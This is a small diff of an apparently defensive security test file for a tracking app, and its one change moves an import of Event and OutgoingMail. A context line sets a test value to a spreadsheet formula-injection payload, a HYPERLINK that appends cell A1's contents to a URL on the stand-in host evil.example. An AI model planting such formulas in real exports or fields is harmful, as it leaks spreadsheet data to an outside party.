@@ -32,7 +32,7 @@ from tests.security.matrix import EMAILS, _arg_values, _plan
 from tracker import services
 from tracker.services import devices as device_service
 from tracker.models import Account, Household, WeighIn
-from tracker.models_life import Event, OutgoingMail
+from tracker.models import Event, OutgoingMail
 
 ROOT = pathlib.Path(__file__).resolve().parents[2]
 NAME = '=HYPERLINK("https://evil.example/?x="&A1;"Voir")'
